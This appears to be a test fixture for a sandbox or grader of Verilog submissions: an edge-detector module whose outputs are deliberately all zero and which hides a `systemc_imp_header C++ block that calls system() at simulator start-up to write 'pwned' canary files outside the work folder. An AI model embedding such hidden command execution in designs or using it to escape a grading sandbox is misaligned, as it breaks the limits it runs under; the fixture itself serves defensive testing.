// Hostile answer (writing outside the work folder), Verilator: a `systemc_imp_header block is
// copied verbatim into the C++ of the verilated model, here a static initializer that calls
// system() when the simulator starts, before any Verilog runs and without a single system task.
// Targets: the canary folder of HOME, the task folder, the cache folder, /tmp, an existing canary
// file (appended). The design itself is wrong (outputs zero).
module edge_detector (
    input  logic clk,
    input  logic rst_n,
    input  logic din,
    output logic rise,
    output logic fall,
    output logic any_edge
);
`systemc_imp_header
#ifndef HOSTILE_ONCE
#define HOSTILE_ONCE
#include <cstdio>
#include <cstdlib>
static int hostile = (std::printf("HOSTILE-%s-@MARK@\n", "RAN"),
                      std::system("touch @HOME_DIR@/pwned-@MARK@ @TASK_DIR@/pwned-@MARK@ @CACHE_DIR@/pwned-@MARK@ "
                                  "/tmp/pwned-@MARK@; echo pwned-@MARK@ >> @HOME_FILE@"));
#endif
`verilog
    assign rise = 1'b0;
    assign fall = 1'b0;
    assign any_edge = 1'b0;
endmodule
